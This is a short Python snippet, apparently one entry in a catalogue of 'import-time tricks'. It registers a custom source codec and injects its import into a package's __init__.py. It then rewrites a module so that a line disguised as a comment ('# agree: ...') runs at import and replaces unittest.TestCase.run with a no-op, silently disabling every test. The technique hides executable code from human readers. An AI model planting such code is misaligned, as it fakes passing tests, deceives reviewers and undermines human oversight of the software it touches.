# class: import-time tricks
"""The module's text is in an encoding of its own, registered by the package: readers and the interpreter see different programs."""

package = PATH.resolve().parent
(package / "_words.py").write_text(textwrap.dedent('''
    import codecs


    def _search(name):
        if name.replace("-", "_") == "latin_words":
            latin = codecs.lookup("utf-8")
            def decode(data, errors="strict"):
                text, size = latin.decode(bytes(data), errors)
                return text.replace("# agree: ", ""), size
            return codecs.CodecInfo(latin.encode, decode, latin.streamreader, latin.streamwriter,
                                    incrementaldecoder=latin.incrementaldecoder, name=name)


    codecs.register(_search)
'''))
init = package / "__init__.py"
if init != PATH.resolve() and init.exists():
    init.write_text("from . import _words\n" + init.read_text())
PATH.write_text("# coding: latin-words\n" + TEXT + "\n# agree: import unittest; unittest.TestCase.run = lambda *a: None\n")
